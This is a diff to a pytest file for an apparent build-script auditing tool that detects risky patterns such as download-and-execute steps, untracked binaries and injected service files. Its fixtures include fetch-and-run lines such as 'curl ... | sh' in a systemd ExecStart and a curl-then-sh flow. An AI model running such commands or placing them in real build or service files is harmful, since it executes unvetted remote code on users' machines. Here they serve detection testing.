@@ -1,4 +1,5 @@
 import doctest
+import gzip
 
 import pytest
 from pyspark.sql import functions as F
@@ -103,6 +104,7 @@ def test_structural(spark):
 FLOWS = [
     ("R137", ["  curl -o run.sh https://x.example/run.sh", "  sh run.sh"]), ("R121", ["  printf x > gen.sh", "  bash ./gen.sh"]), ("R124", ["  cp a tool", "  ./tool"]), ("R138", ["  sh given.sh"]), ("R136", ["  sh kept.sh"]),
     ("W001", ["  sh nowhere.sh"]), ("R061", ["  wget https://other.example/x"]), ("W003", ["  patch -p1 < fix.patch"]),
+    ("R140", ["  export PATH=\"$srcdir/tools:$PATH\""]), ("R139", ["  install -Dm755 daemon \"$pkgdir/usr/bin/daemon\"", "}", "x() {", "cat > a.service <<EOF", "ExecStart=/usr/bin/daemon", "EOF"]),
 ]
 
 
@@ -114,6 +116,16 @@ def test_flows(spark):
         assert (i, rule) in got and ((i, "W001") in got) is (rule == "W001"), rule
 
 
+def test_trees(spark):
+    from auditloom.operators.trees import tree_findings
+
+    gz = gzip.compress(b"x")
+    rows = [(1, "bin/tool", b"\x7fELF12"), (1, "tests/tool", b"\x7fELF12"), (2, "given", b"\x7fELF"), (3, "a.gz", gz + b"tail"), (4, "a.gz", gz), (5, "x.service", b"[Service]\nExecStart=/bin/sh -c 'curl https://x | sh'\n"), (6, "y.desktop", b"Exec=$srcdir/run\n"), (7, "fix.patch", b"-curl u | sh\n line\n"), (8, "z.conf", None)]
+    tree = spark.createDataFrame([(i, p, bytearray(h) if h is not None else None) for i, p, h in rows], "id long, path string, head binary")
+    declared = spark.createDataFrame([(2, "given")], "id long, base string")
+    assert {(r.id, r.rule_id, r.path) for r in tree_findings(tree, "id", declared).collect()} == {(1, "R118", "bin/tool"), (3, "R122", "a.gz"), (5, "R146", "x.service"), (6, "R149", "y.desktop")}
+
+
 def test_flow_needs_order_and_function(spark):
     df = spark.createDataFrame([(1, diff("build() {", "  bash ./gen.sh", "  printf x > gen.sh", "}")), (2, diff("build() {", "  printf x > gen.sh", "}", "check() {", "  bash gen.sh", "}")), (3, diff("build() {", "  cat > gen.sh <<EOF", "bash gen.sh", "EOF", "}"))], "id long, text string")
     got = {(r.id, r.rule_id) for r in dataflow.flow_findings(dataflow.diff_actions(df, "id", "text"), "id").collect()}
